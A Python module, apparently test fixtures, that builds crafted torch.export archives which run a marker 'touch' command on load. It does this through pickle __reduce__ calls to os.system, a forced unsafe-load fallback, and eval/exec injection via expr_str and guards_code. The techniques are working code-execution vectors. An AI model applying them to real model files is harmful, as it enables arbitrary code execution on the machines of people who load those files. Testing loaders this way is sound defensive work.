"""Crafted torch.export archives, built from a real export: each hides a payload torch would run."""

from __future__ import annotations

import io
import json
import os
import zipfile
from pathlib import Path

import torch


class Payload:
    """Unpickling it runs `touch MARKER` (what a hostile file would do with os.system)."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def pickled(obj: object) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def rewrite(src: Path, dst: Path, edit) -> Path:
    """Copy a .pt2 member by member; `edit(rel, data)` returns new bytes or None to keep them."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            rel = info.filename.split("/", 1)[1]
            data = zin.read(info)
            new = edit(rel, data)
            zout.writestr(info.filename, data if new is None else new)
    return dst


def pickled_weight(src: Path, dst: Path, marker: Path) -> Path:
    """The first weight flagged `use_pickle` and replaced by a pickle that runs the payload."""

    def edit(rel: str, data: bytes) -> bytes | None:
        if rel == "data/weights/model_weights_config.json":
            config = json.loads(data)
            first = next(iter(config["config"].values()))
            first["use_pickle"] = True
            first["path_name"] = "weight_0"
            return json.dumps(config).encode()
        if rel == "data/weights/weight_0":
            return pickled(Payload(marker))
        return None

    return rewrite(src, dst, edit)


def pickled_sample_inputs(src: Path, dst: Path, marker: Path) -> Path:
    """Sample inputs that fail torch's safe load, so torch falls back to the unsafe one."""

    def edit(rel: str, data: bytes) -> bytes | None:
        if rel.startswith("data/sample_inputs/"):
            return pickled(((Payload(marker),), {}))
        return None

    return rewrite(src, dst, edit)


def extra_member(src: Path, dst: Path, member: str, payload: bytes) -> Path:
    """The archive plus one member torch.export.save never writes (e.g. an AOTI library)."""
    rewrite(src, dst, lambda rel, data: None)
    with zipfile.ZipFile(dst, "a") as zout:
        root = zout.namelist()[0].split("/", 1)[0]
        zout.writestr(f"{root}/{member}", payload)
    return dst


def _edit_program(src: Path, dst: Path, edit) -> Path:
    """Rewrite models/model.json through `edit(program_dict)`."""

    def change(rel: str, data: bytes) -> bytes | None:
        if rel == "models/model.json":
            program = json.loads(data)
            edit(program)
            return json.dumps(program).encode()
        return None

    return rewrite(src, dst, change)


def shell(marker: Path) -> str:
    """Python that runs `touch MARKER`, as a string torch will evaluate."""
    return f"__import__('os').system('touch {marker}')"


def symbolic_size_payload(src: Path, dst: Path, marker: Path) -> Path:
    """Every symbolic size's expr_str (torch sympifies it, an eval) with the payload added."""

    def edit(program: dict) -> None:
        text = json.dumps(program)
        start = text.index('"expr_str": "') + len('"expr_str": "')
        expr = text[start : text.index('"', start)]
        text = text.replace(f'"expr_str": "{expr}"', f'"expr_str": "{expr} + 0*{shell(marker)}"')
        program.clear()
        program.update(json.loads(text))

    return _edit_program(src, dst, edit)


def guards_payload(src: Path, dst: Path, marker: Path) -> Path:
    """guards_code that torch exec()s into a guard function run on every forward."""

    def edit(program: dict) -> None:
        program["guards_code"] = [f"{shell(marker)} or True"]

    return _edit_program(src, dst, edit)


def second_program(src: Path, dst: Path, marker: Path, folder: str = "constants") -> Path:
    """A second models/evil.json (a copy of model.json) with its sample inputs and payload
    config copied, and data/<folder>/evil.pt a pickle torch loads as a legacy file."""
    other = "weights" if folder == "constants" else "constants"
    copies = {
        "models/model.json": "models/evil.json",
        "data/sample_inputs/model.pt": "data/sample_inputs/evil.pt",
        f"data/{other}/model_{other}_config.json": f"data/{other}/evil_{other}_config.json",
    }
    rewrite(src, dst, lambda rel, data: None)
    with zipfile.ZipFile(dst) as zin:
        root = zin.namelist()[0].split("/", 1)[0]
        added = {new: zin.read(f"{root}/{old}") for old, new in copies.items()}
    added[f"data/{folder}/evil.pt"] = pickled(Payload(marker))
    with zipfile.ZipFile(dst, "a") as zout:
        for rel, data in added.items():
            zout.writestr(f"{root}/{rel}", data)
    return dst
